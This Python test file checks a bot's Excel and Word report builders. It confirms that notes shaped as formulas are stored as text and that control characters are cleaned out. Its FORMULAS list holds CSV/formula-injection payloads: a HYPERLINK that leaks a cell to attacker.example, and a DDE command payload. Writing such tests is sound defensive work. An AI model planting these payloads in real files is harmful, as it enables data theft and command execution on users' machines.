"""People's text in the files: a note shaped as a formula is shown as typed, never run; a control
character (Word's \\x0b, \\x01, a NUL in a file name) breaks neither the workbook nor the Word report."""

from __future__ import annotations

import io
from datetime import date, datetime

import docx
import openpyxl
import pytest
from sqlalchemy import select

from bot.files.builders import report_files
from plan_data.figures import reporting_period
from storage.models import Occurrence, StatusChange, Task
from storage.queries import pick_plan, plan_tasks
from tests.conftest import VN
from tests.support.chat import seeded_chat

FORMULAS = ['=HYPERLINK("http://attacker.example/?leak="&A1,"bấm")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)"]
CONTROLS = ["đã nộp\x0bbản ký", "lạ \x01\x02 lắm", "\x1b[31m đỏ", "ký tự \ufffe lạ"]  # a lone surrogate cannot even be stored
DAY = date(2026, 3, 31)


def files(sessions) -> tuple[openpyxl.Workbook, docx.Document]:
    with sessions.begin() as session:
        plan = pick_plan(session)
        period = reporting_period(plan.year, DAY, "quarter", 1, 0)
        book, document = report_files(plan, plan_tasks(session, plan, with_history=True), period, DAY)
    return openpyxl.load_workbook(io.BytesIO(book.data)), docx.Document(io.BytesIO(document.data))


def every_cell(book: openpyxl.Workbook):
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


@pytest.mark.parametrize("note", FORMULAS)
def test_a_note_shaped_as_a_formula_is_written_as_text(sessions, now, note: str) -> None:
    talk = seeded_chat(sessions, now)
    talk.text("hcc", f"xong 17: {note}", at=datetime(2026, 3, 20, 9, tzinfo=VN))
    book, document = files(sessions)
    cells = every_cell(book)
    assert not [c for c in cells if c.data_type == "f"]
    assert any(c.value == note for c in cells)  # shown as typed
    assert note in "\n".join(p.text for p in document.paragraphs)


@pytest.mark.parametrize("note", CONTROLS)
def test_control_characters_stored_before_the_entrance_cleaned_them_break_no_file(sessions, now, note: str) -> None:
    """Older rows (or a plan file's own text) may hold them: the writers clean what they write."""
    seeded_chat(sessions, now)
    with sessions.begin() as session:
        occurrence = session.scalar(select(Occurrence).join(Task).where(Task.number == "17"))
        occurrence.status, occurrence.done_at, occurrence.done_by = "done", datetime(2026, 3, 20, 9, tzinfo=VN), "B\x01"
        occurrence.note = note
        session.add(StatusChange(occurrence=occurrence, at=datetime(2026, 3, 20, 9, tzinfo=VN), action="done",
                                 platform="telegram", user_id="1", user_name="B", chat_id="c", before={}, after={},
                                 note=note, evidence={"type": "document", "file_name": "bc\x02.pdf"}))
    book, document = files(sessions)
    text = "\n".join(str(c.value) for c in every_cell(book)) + "\n".join(p.text for p in document.paragraphs)
    assert not [c for c in text if c in "\x00\x01\x02\x0b\x1b\ufffe"]
    assert note.split()[-1] in text  # what a person could read is there
